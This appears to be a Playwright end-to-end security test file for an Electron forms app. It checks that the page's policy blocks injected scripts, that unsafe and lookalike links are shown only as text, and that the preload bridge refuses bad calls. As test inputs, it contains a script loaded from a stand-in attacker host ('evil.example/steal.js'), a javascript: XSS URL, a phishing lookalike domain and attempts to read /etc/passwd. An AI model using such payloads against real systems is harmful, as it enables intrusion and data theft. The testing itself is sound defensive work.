/// <reference lib="dom" />
import { join, resolve } from 'node:path';
import { type Page } from '@playwright/test';
import { createLogger } from '../electron/core/logging/log';
import { MemoryKeyVault } from '../electron/core/workspaces/memoryVault';
import { startHost } from '../electron/host/startHost';
import { type LocalApi } from '../electron/local-api';
import { connectAccount, expect, test } from './fixtures';

// Runtime checks of the security checklist (docs/security-checklist.md) in the real renderer:
// what a script injected into the page could do, and which links may leave the app.

const projectRoot = resolve(__dirname, '..');
const FEEDBACK_ID = 'cFb7q2LxWm';
const EVENT_ID = 'evR3gN8tYu';

/** What the page's policy reports for the attempts below: directive, then what was blocked. */
const REPORTED_KINDS = [
  'script-src-elem inline',
  'script-src-elem https://evil.example/steal.js',
  'script-src-attr inline',
  'script-src eval',
];

interface Injection {
  ran: string[];
  violations: string[];
}

/**
 * Tries what an injection bug would let an attacker try, after the app has started: an inline
 * script, a script from another origin, an inline event handler, markup with an onerror handler
 * and code in a string. Playwright's own evaluate runs outside the page's policy; everything it adds to the
 * page is subject to it.
 */
async function inject(app: Page): Promise<Injection> {
  return app.evaluate(async (kinds) => {
    const marks = window as unknown as { __ran?: string[] };
    marks.__ran = [];
    const violations: string[] = [];
    // Reports are dispatched as tasks, after the attempts (some twice): this settles once each
    // kind of attempt is reported, or (when one is missing) after long enough for the assertions
    // to say which.
    const reported = new Promise<void>((resolve) => {
      setTimeout(resolve, 20_000);
      document.addEventListener('securitypolicyviolation', (event) => {
        violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
        if (kinds.every((kind) => violations.some((v) => v.startsWith(kind)))) resolve();
      });
    });

    const inline = document.createElement('script');
    inline.textContent = "window.__ran.push('inline script')";
    document.body.append(inline);

    const remote = document.createElement('script');
    remote.src = 'https://evil.example/steal.js';
    document.body.append(remote);

    const handler = document.createElement('button');
    handler.setAttribute('onclick', "window.__ran.push('inline handler')");
    document.body.append(handler);
    handler.click();

    const markup = document.createElement('div');
    markup.innerHTML = `<img src="data:," onerror="window.__ran.push('onerror')">`;
    document.body.append(markup);

    // A string timer is compiled by the page as eval would be.
    (setTimeout as unknown as (code: string, ms: number) => void)(
      "window.__ran.push('string timer')",
      0,
    );

    await reported;
    return { ran: marks.__ran, violations };
  }, REPORTED_KINDS);
}

async function connect(app: Page, api: LocalApi): Promise<void> {
  await connectAccount(app, api);
  await expect(app.getByRole('heading', { name: 'Forms' })).toBeVisible();
}

test.describe('security of the page', () => {
  test('an injected script, inline handler or string of code does not run, and the policy reports it', async ({
    app,
  }) => {
    await expect(app.locator('[data-state="welcome"]')).toBeVisible();
    const result = await inject(app);
    expect(result.ran).toEqual([]);
    for (const kind of REPORTED_KINDS) {
      expect(
        result.violations.some((v) => v.startsWith(kind)),
        kind,
      ).toBe(true);
    }
    // The app is still the app.
    await expect(app.locator('[data-state="welcome"]')).toBeVisible();
  });

  test('opens https links in answers, and shows javascript:, file: and lookalike addresses as text', async ({
    app,
    remoteApi,
  }) => {
    const addresses = {
      safe: 'https://example.com/about',
      script: 'javascript:alert(document.domain)',
      file: 'file:///etc/passwd',
      lookalike: 'https://example.com@evil.example/login',
      plain: 'http://example.com/about',
    };
    for (const [name, url] of Object.entries(addresses)) {
      await remoteApi.admin.respond(FEEDBACK_ID, { answers: { nm01: `Link ${name}`, wb12: url } });
    }
    await connect(app, remoteApi);
    await app
      .getByRole('navigation', { name: 'Sections' })
      .getByRole('link', { name: 'Submissions' })
      .click();
    const grid = app.getByRole('grid', { name: 'Submissions' });
    await expect(grid).toHaveAttribute('data-state', 'ready');

    for (const [name, url] of Object.entries(addresses)) {
      await app.getByRole('textbox', { name: 'Search submissions' }).fill(`Link ${name}`);
      const rows = grid.locator('[role="row"][data-submission-id]');
      await expect(rows).toHaveCount(1);
      await rows.filter({ hasText: `Link ${name}` }).click();
      const drawer = app.getByRole('dialog', { name: /^Submission/ });
      const website = drawer.locator('[data-question-type="URLInput"]');
      await expect(website).toContainText(url);
      if (name === 'safe') {
        const link = website.getByRole('link');
        await expect(link).toHaveAttribute('href', url);
        await expect(link).toHaveAttribute('rel', /noreferrer/);
      } else {
        await expect(website.getByRole('link')).toHaveCount(0);
      }
      await app.keyboard.press('Escape');
      await expect(drawer).toBeHidden();
    }
    // Nowhere on the page does an unsafe address become a link.
    const unsafeLinks = await app.evaluate(() =>
      [...document.querySelectorAll('a[href]')]
        .map((a) => a.getAttribute('href') ?? '')
        .filter((href) => /^(javascript|file|data):/i.test(href)),
    );
    expect(unsafeLinks).toEqual([]);
  });

  test('opens a processor link only on the processor, and shows a lookalike dashboard as text', async ({
    app,
    remoteApi,
  }) => {
    const dashboards = {
      genuine: 'https://dashboard.stripe.com/payments/pi_genuine',
      lookalike: 'https://dashboard.stripe.com.evil.example/payments/pi_lookalike',
    };
    // Created through the service's create endpoint, which takes payments as given.
    const created = await fetch(`${remoteApi.baseUrl}/forms/${EVENT_ID}/submissions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${remoteApi.apiKey}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        submissions: Object.entries(dashboards).map(([name, url]) => ({
          questions: [{ id: 'fn01', value: `Payer ${name}` }],
          payments: [
            {
              id: 'pay1',
              value: {
                paymentId: `pi_${name}`,
                totalAmount: 1000,
                currency: 'USD',
                status: 'succeeded',
                stripePaymentUrl: url,
              },
            },
          ],
        })),
      }),
    });
    expect(created.status).toBe(200);
    await connect(app, remoteApi);
    await app
      .getByRole('navigation', { name: 'Sections' })
      .getByRole('link', { name: 'Submissions' })
      .click();
    await app.getByRole('combobox', { name: 'Form' }).fill('Event registration');
    await app.getByRole('option', { name: 'Event registration' }).click();
    const grid = app.getByRole('grid', { name: 'Submissions' });
    await expect(grid).toHaveAttribute('data-state', 'ready');

    for (const [name, url] of Object.entries(dashboards)) {
      await app.getByRole('textbox', { name: 'Search submissions' }).fill(`Payer ${name}`);
      const rows = grid.locator('[role="row"][data-submission-id]');
      await expect(rows).toHaveCount(1);
      await rows.filter({ hasText: `Payer ${name}` }).click();
      const payments = app
        .getByRole('dialog', { name: /^Submission/ })
        .getByRole('region', { name: 'Payments' });
      await expect(payments).toContainText('Open payment');
      // The link reads as where it goes, its label beside it.
      if (name === 'genuine')
        await expect(
          payments.getByRole('link', { name: /^https:\/\/dashboard\.stripe\.com\// }),
        ).toHaveAttribute('href', url);
      else await expect(payments.getByRole('link')).toHaveCount(0);
      await app.keyboard.press('Escape');
    }
  });
});

test.describe('key storage', () => {
  test('without a secure keyring, says so and keeps the key only until quit unless told otherwise', async ({
    page,
    dataDir,
    remoteApi,
    mode,
  }) => {
    test.skip(mode !== 'browser', 'Starts a browser-mode host whose keyring is not secure.');
    // What Electron reports on Linux without a keyring service: its public-key basic_text store.
    const host = await startHost({
      dataDir,
      rendererDir: join(projectRoot, 'out/renderer'),
      // The built worker entries, as the app runs them.
      builtDir: join(projectRoot, 'out/main'),
      autoOpenDemo: false,
      vault: new MemoryKeyVault({ secure: false, backend: 'basic_text' }),
      log: createLogger({ write: () => {} }),
    });
    try {
      await page.goto(host.url);
      await page.getByRole('button', { name: 'Connect your account' }).click();
      const form = page.getByRole('form', { name: 'Connect your account' });
      await expect(
        form.getByRole('alert', { name: 'No secure key storage on this system' }),
      ).toBeVisible();
      await expect(form.getByRole('radio', { name: /Only until Formdesk quits/ })).toBeChecked();
      await expect(form.getByRole('radio', { name: /unencrypted/ })).not.toBeChecked();
      await form.getByText('Self-hosted or other').click();
      await form.getByLabel('Base URL').fill(remoteApi.baseUrl);
      await form.getByLabel('API key').fill(remoteApi.apiKey);
      await form.getByRole('button', { name: 'Connect', exact: true }).click();
      await expect(page.getByRole('heading', { name: 'Forms' })).toBeVisible();

      await page
        .getByRole('navigation', { name: 'Sections' })
        .getByRole('link', { name: 'Settings' })
        .click();
      await expect(
        page.getByRole('region', { name: /127\.0\.0\.1/ }).getByText('Key kept until quit'),
      ).toBeVisible();
    } finally {
      await host.close();
    }
  });
});

// What only the desktop shell decides: each skips itself in browser mode.
test.describe('security of the Electron shell', () => {
  test('refuses every permission the page asks for', async ({ app, electronApp }) => {
    test.skip(electronApp === null, 'Permissions are decided by the Electron session.');
    await expect(app.locator('[data-state="welcome"]')).toBeVisible();
    const answers = await app.evaluate(async () => {
      const media = await navigator.mediaDevices
        .getUserMedia({ audio: true })
        .then(() => 'granted')
        .catch((error: unknown) => (error instanceof Error ? error.name : 'refused'));
      const location = await new Promise<string>((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve('granted'),
          (error) => resolve(error.code === error.PERMISSION_DENIED ? 'denied' : 'error'),
        ),
      );
      return { notifications: await Notification.requestPermission(), media, location };
    });
    expect(answers.notifications).toBe('denied');
    expect(answers.media).not.toBe('granted');
    expect(answers.location).toBe('denied');
  });

  test('the bridge refuses unknown operations and bad input with an envelope', async ({
    app,
    electronApp,
  }) => {
    test.skip(electronApp === null, 'The preload bridge exists in Electron only.');
    await expect(app.locator('[data-state="welcome"]')).toBeVisible();
    const answers = await app.evaluate(async () => {
      const bridge = (
        window as unknown as { formdesk: { invoke(op: unknown, input: unknown): Promise<unknown> } }
      ).formdesk;
      return {
        unknownOp: await bridge.invoke('fs.readFile', { path: '/etc/passwd' }),
        badInput: await bridge.invoke('workspaces.rename', { id: 42 }),
        notAString: await bridge.invoke(42, {}),
      };
    });
    for (const answer of Object.values(answers)) {
      expect(answer).toMatchObject({ ok: false, error: { code: 'INVALID_INPUT' } });
    }
  });

  test('a frame inside the page cannot reach the bridge', async ({ app, electronApp }) => {
    test.skip(electronApp === null, 'The preload bridge exists in Electron only.');
    await expect(app.locator('[data-state="welcome"]')).toBeVisible();
    const reach = await app.evaluate(async () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<p>framed</p>';
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
      return 'formdesk' in (frame.contentWindow as unknown as Record<string, unknown>);
    });
    expect(reach).toBe(false);
  });
});
